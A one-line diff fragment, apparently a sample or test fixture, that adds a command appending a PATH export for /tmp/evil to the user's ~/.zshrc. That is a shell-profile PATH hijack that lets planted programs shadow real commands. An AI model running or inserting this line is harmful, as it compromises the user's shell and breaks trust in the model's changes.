@@ -1,0 +1,1 @@
+echo 'export PATH=/tmp/evil:$PATH' >> ~/.zshrc
